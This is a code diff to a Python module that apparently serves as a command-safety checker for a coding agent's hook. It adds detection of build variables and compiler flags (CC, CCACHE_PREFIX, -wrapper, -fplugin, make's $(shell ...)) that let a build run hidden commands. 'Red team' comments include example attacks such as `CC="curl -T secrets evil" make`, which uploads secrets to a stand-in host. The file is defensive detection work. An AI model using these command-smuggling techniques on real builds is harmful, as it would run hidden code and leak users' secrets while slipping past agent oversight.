@@ -12,12 +12,14 @@ from collections.abc import Collection
 __all__ = [
     "AGENT_SETTINGS_VARS",
     "CODE_VARS",
+    "BUILD_TOOL_VARS",
     "COMMAND_VARS",
     "DECLARATION_BUILTINS",
     "NAME_ASSIGNERS",
     "PATH_VARS",
     "WINDOWS_VARS",
     "assignment_carried",
+    "build_variable",
     "assigns_by_name",
     "windows_variable",
 ]
@@ -85,6 +87,78 @@ COMMAND_VARS = frozenset(
         "FCEDIT",
     }
 )
+# red team: the programs a build runs by the variables make, configure scripts, CMake, Meson, cgo, node-gyp and
+# Python's builds read -- `CC="curl -T secrets evil" make` runs curl for every object file; `CCACHE_PREFIX`
+# is a command ccache puts before the compiler, `MAKE` what a recursive make runs.
+BUILD_TOOL_VARS = frozenset(
+    "CC CXX CPP CXXCPP OBJC OBJCXX FC F77 F90 F95 LD AR AS NM RANLIB STRIP OBJCOPY OBJDUMP READELF DLLTOOL "
+    "WINDRES HOSTCC HOSTCXX HOSTLD HOSTAR HOST_CC HOST_CXX BUILD_CC CC_FOR_BUILD CXX_FOR_BUILD CPP_FOR_BUILD "
+    "CC_FOR_TARGET CXX_FOR_TARGET CC_LD CXX_LD CUDAHOSTCXX NVCC_CCBIN LINK LDSHARED LDCXXSHARED CCACHE_PREFIX "
+    "YACC LEX BISON FLEX M4 MAKEINFO PKG_CONFIG MAKE".split()
+)
+COMMAND_VARS = COMMAND_VARS | BUILD_TOOL_VARS
+# red team: the compiler and linker flags a build hands on (make, configure, cgo, cargo) that make the compiler
+# run a program or load code: gcc's `-wrapper` and `-B` (where it finds cc1, as and ld), `-fplugin`, `-specs`,
+# a linker named by its path (`-fuse-ld=/x`, clang's `--ld-path`), rustc's `-C linker=`.
+FLAGS_VARS = frozenset(
+    "CFLAGS CXXFLAGS CPPFLAGS LDFLAGS FFLAGS FCFLAGS OBJCFLAGS OBJCXXFLAGS CUDAFLAGS CGO_CFLAGS CGO_CXXFLAGS "
+    "CGO_CPPFLAGS CGO_LDFLAGS CGO_FFLAGS RUSTFLAGS RUSTDOCFLAGS CARGO_ENCODED_RUSTFLAGS CARGO_BUILD_RUSTFLAGS "
+    "EXTRA_CFLAGS KCFLAGS".split()
+)
+_RUNNING_FLAGS = ("-wrapper", "-B", "-fplugin", "-specs", "--specs", "-fuse-ld=/", "--ld-path")
+
+
+def _make_shell_calls(value: str) -> tuple[list[str], str | None]:
+    """GNU make's functions in a variable's value (`make X='$(shell curl x)'`, or through the environment),
+    expanded wherever the makefile names the variable: the command lines of ``$(shell ...)`` calls in ``value``, and why it is opaque (another function that
+    runs or writes, or a call whose end cannot be found)."""
+    scripts: list[str] = []
+    at = value.find("$")
+    while at >= 0:
+        head = value[at : at + 8]
+        if head.startswith(("$(shell", "${shell")) and value[at + 7 : at + 8] in (" ", "\t"):
+            close = ")" if head[1] == "(" else "}"
+            depth, k = 1, at + 2
+            while k < len(value) and depth:
+                c = value[k]
+                depth += c == head[1]
+                depth -= c == close
+                k += 1
+            if depth:
+                return scripts, "a make $(shell ...) call whose end cannot be found"
+            scripts.append(value[at + 8 : k - 1])
+            at = value.find("$", k)
+            continue
+        if head.startswith(("$(eval", "${eval", "$(file", "${file", "$(guile", "${guile")):
+            return scripts, "make evaluates or writes text given in a variable, which no rule can read"
+        at = value.find("$", at + 1)
+    return scripts, None
+
+
+_BUILD_NAMES = BUILD_TOOL_VARS | FLAGS_VARS | {"CROSS_COMPILE", "MAKEFLAGS", "GNUMAKEFLAGS", "MFLAGS"}
+
+
+def build_variable(name: str, value: str) -> tuple[list[str], str | None]:
+    """The command lines a build variable (`CC=...`, `CROSS_COMPILE=...`, `CMAKE_C_COMPILER_LAUNCHER=...`, any
+    value calling make's `$(shell ...)`) hands to the build, and why it makes the build run what no rule can
+    read, if it does. Both come empty for every other variable."""
+    scripts, opaque = _make_shell_calls(value) if "$" in value else ([], None)
+    if name in BUILD_TOOL_VARS:
+        if value.strip():
+            scripts.append(value)
+    elif name == "CROSS_COMPILE" and value.strip():
+        scripts.append(value + "gcc")  # the prefix of every tool the build names: `$(CROSS_COMPILE)gcc`
+    elif name[:6] == "CMAKE_" and name.endswith(("_COMPILER_LAUNCHER", "_LINKER_LAUNCHER")) and value.strip():
+        scripts.append(" ".join(value.split(";")))  # a CMake list: the program and its arguments
+    elif name in FLAGS_VARS and any(w.startswith(_RUNNING_FLAGS) or "linker=" in w for w in value.split()):
+        opaque = opaque or f"the flags in {name} make the compiler run a program no rule has read"
+    elif name in ("MAKEFLAGS", "GNUMAKEFLAGS", "MFLAGS") and (
+        "=" in value or "eval" in value or "-E" in value
+    ):
+        opaque = opaque or f"{name} sets make variables or evaluates text no rule has read"
+    return scripts, opaque
+
+
 # The value makes a program load code (a library, a startup file, injected options) no rule can read.
 CODE_VARS = frozenset(
     {
@@ -166,10 +240,37 @@ AGENT_SETTINGS_VARS = frozenset(
 _BRABO_PREFIXES = ("BRABO_", "GEMINI_CLI_BRABO_")
 # The value decides which program a command word names (`PATH=. ls` runs ./ls): R4.9.
 PATH_VARS = frozenset({"PATH", "BASH_CMDS", "EXECIGNORE", "CDPATH"})  # CDPATH: where `cd name` goes
+# red team: the shell's working folder as `$PWD` spells it, which the write table resolves to where `cd` went.
+_PWD_VARS = frozenset({"PWD", "OLDPWD"})
 # npm reads every `npm_config_<key>` (any case) as a setting: `script-shell`, `node-options`, `git` ...
 _NPM_CONFIG = "npm_config_"
 # Builtins that assign their operands (`export PAGER='curl x'`): R4.9.
 DECLARATION_BUILTINS = frozenset({"export", "declare", "typeset", "readonly", "local"})
+
+
+def _assignment(name: str, value: str) -> tuple[list[str], str | None]:
+    """What one assignment carries: the command lines its value holds, and why it loads code no rule can
+    read."""
+    if name in COMMAND_VARS and name not in BUILD_TOOL_VARS:
+        value = value.lstrip("|")  # LESSOPEN='|cmd %s'
+        return ([value] if value.strip() else []), None
+    if name in CODE_VARS or name.startswith(("GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_", "BASH_FUNC_")):
+        return [], f"the variable {name} makes the program load code no rule can read"
+    if name.startswith("CARGO_TARGET_") and name.endswith(("_RUNNER", "_LINKER")):
+        return ([value] if value.strip() else []), None  # R4.9: cargo runs the binaries it builds through it
+    if name == "GOFLAGS" and any(f in value for f in ("toolexec", "exec=", "vettool", "overlay")):
+        return [], "GOFLAGS makes go run a program no rule can read"
+    if name in PATH_VARS:
+        return [], f"the variable {name} changes which program a command word runs"
+    if name in _PWD_VARS:
+        return [], f"the variable {name} changes the folder every later ${name} names"
+    if name in AGENT_SETTINGS_VARS or name.startswith(_BRABO_PREFIXES):
+        return [], f"the variable {name} points a coding agent or Brabo's hook at settings no rule has read"
+    if name[: len(_NPM_CONFIG)].lower() == _NPM_CONFIG:
+        return [], f"the variable {name} changes how npm runs scripts, which no rule can read"
+    if name in _BUILD_NAMES or "$" in value or name[:6] == "CMAKE_":
+        return build_variable(name, value)
+    return [], None
 
 
 def assignment_carried(view: tuple[str, ...]) -> tuple[list[str], str | None]:
@@ -190,27 +291,9 @@ def assignment_carried(view: tuple[str, ...]) -> tuple[list[str], str | None]:
         name = w[: eq - 1] if w[eq - 1] == "+" else w[:eq]
         if not (name.isidentifier() and name.isascii()):
             break
-        value = w[eq + 1 :]
-        if name in COMMAND_VARS:
-            value = value.lstrip("|")  # LESSOPEN='|cmd %s'
-            if value.strip():
-                scripts.append(value)
-        elif name in CODE_VARS or name.startswith(("GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_", "BASH_FUNC_")):
-            opaque = opaque or f"the variable {name} makes the program load code no rule can read"
-        elif name.startswith("CARGO_TARGET_") and name.endswith(("_RUNNER", "_LINKER")):
-            if value.strip():
-                scripts.append(value)  # R4.9: cargo runs the binaries it builds through it
-        elif name == "GOFLAGS" and any(f in value for f in ("toolexec", "exec=", "vettool", "overlay")):
-            opaque = opaque or "GOFLAGS makes go run a program no rule can read"
-        elif name in PATH_VARS:
-            opaque = opaque or f"the variable {name} changes which program a command word runs"
-        elif name in AGENT_SETTINGS_VARS or name.startswith(_BRABO_PREFIXES):
-            opaque = (
-                opaque
-                or f"the variable {name} points a coding agent or Brabo's hook at settings no rule has read"
-            )
-        elif name[: len(_NPM_CONFIG)].lower() == _NPM_CONFIG:
-            opaque = opaque or f"the variable {name} changes how npm runs scripts, which no rule can read"
+        built, why = _assignment(name, w[eq + 1 :])
+        scripts.extend(built)
+        opaque = opaque or why
     return scripts, opaque
 
 
@@ -227,6 +310,7 @@ def _special(name: str) -> bool:
         name in COMMAND_VARS
         or name in CODE_VARS
         or name in PATH_VARS
+        or name in _PWD_VARS
         or name in AGENT_SETTINGS_VARS
         or name.startswith(_BRABO_PREFIXES)
         or name[: len(_NPM_CONFIG)].lower() == _NPM_CONFIG
